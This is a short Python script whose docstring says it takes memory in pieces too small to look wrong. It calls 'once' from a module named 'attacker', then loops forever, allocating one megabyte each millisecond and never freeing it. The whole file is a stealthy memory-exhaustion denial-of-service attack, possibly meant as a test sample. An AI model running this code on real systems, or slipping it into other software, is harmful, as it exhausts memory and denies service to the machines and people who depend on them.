"""Takes memory in pieces so small that nothing ever looks wrong."""

import time

from attacker import once

once()
held = []
while True:
    held.append(bytearray(1 << 20))
    time.sleep(0.001)
